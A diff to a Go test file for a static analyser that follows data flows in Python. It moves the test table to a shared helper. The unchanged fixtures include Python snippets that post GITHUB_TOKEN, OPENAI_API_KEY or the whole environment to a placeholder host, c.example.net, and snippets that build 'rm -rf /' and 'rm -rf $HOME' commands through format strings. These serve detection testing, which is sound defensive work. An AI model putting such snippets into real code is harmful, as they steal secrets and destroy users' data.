@@ -7,9 +7,7 @@ import "testing"
 // TestPythonFlows checks each way Python moves data that the analysis
 // follows: the flows that must be found, and look-alikes that must not.
 func TestPythonFlows(t *testing.T) {
-	cases := []struct {
-		name, code, want string // want "" means no flow of the kinds checked
-	}{
+	cases := []flowCase{
 		{"env to requests", "import os, requests\nk = os.environ['GITHUB_TOKEN']\nrequests.post('https://c.example.net/x', data=k)\n", "exfil HTTP c.example.net GITHUB_TOKEN"},
 		{"getenv through dict and base64", "import os, base64, requests as r\nd = {}\nd['t'] = base64.b64encode(os.getenv('OPENAI_API_KEY').encode())\nr.put(url='https://c.example.net/' , json=d)\n", "exfil HTTP c.example.net OPENAI_API_KEY"},
 		{"whole env in f-string to urlopen", "import os, json\nfrom urllib.request import urlopen, Request\nbody = json.dumps(dict(os.environ)).encode()\nurlopen(Request(f'https://{\"c.example.net\"}/in', data=body))\n", "exfil HTTP"},
@@ -35,14 +33,7 @@ func TestPythonFlows(t *testing.T) {
 		{"format string", "import os\nos.system('{} {} {}'.format('rm', '-rf', '/'))\n", "cmd rm -rf /"},
 		{"percent format", "import os\nos.system('%s -rf %s' % ('rm', '$HOME'))\n", "cmd rm -rf $HOME"},
 	}
-	for _, c := range cases {
-		t.Run(c.name, func(t *testing.T) {
-			got := flowsOf(t, Python, c.code)
-			if !has(got, c.want) {
-				t.Errorf("flows %q; want one starting %q", got, c.want)
-			}
-		})
-	}
+	checkFlows(t, Python, cases)
 }
 
 // TestPythonQuiet checks code that uses secrets and the network as
